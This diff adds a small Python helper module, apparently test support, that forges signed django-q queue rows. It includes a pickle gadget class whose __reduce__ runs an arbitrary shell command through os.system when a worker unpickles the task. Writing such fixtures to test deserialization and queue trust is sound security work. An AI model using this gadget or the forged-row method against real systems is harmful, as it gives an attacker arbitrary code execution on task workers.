@@ -1,0 +1,31 @@
+"""Rows of the queue as somebody makes them who has the database, and the key."""
+
+from __future__ import annotations
+
+import os
+from typing import Any
+
+from django.utils import timezone
+from django_q.conf import Conf
+from django_q.models import OrmQ
+from django_q.signing import SignedPackage
+
+
+class Exploit:
+    """Runs its command while it is unpickled."""
+
+    def __init__(self, command: str) -> None:
+        self.command = command
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return os.system, (self.command,)
+
+
+def forge(function: object, *args: object, **options: object) -> OrmQ:
+    task = {"id": "0" * 32, "name": "forged", "func": function, "args": args, "kwargs": {}, "started": timezone.now()}
+    return put(SignedPackage.dumps(task | options))
+
+
+def put(payload: str) -> OrmQ:
+    row: OrmQ = OrmQ.objects.create(key=Conf.CLUSTER_NAME, payload=payload, lock=timezone.now())
+    return row
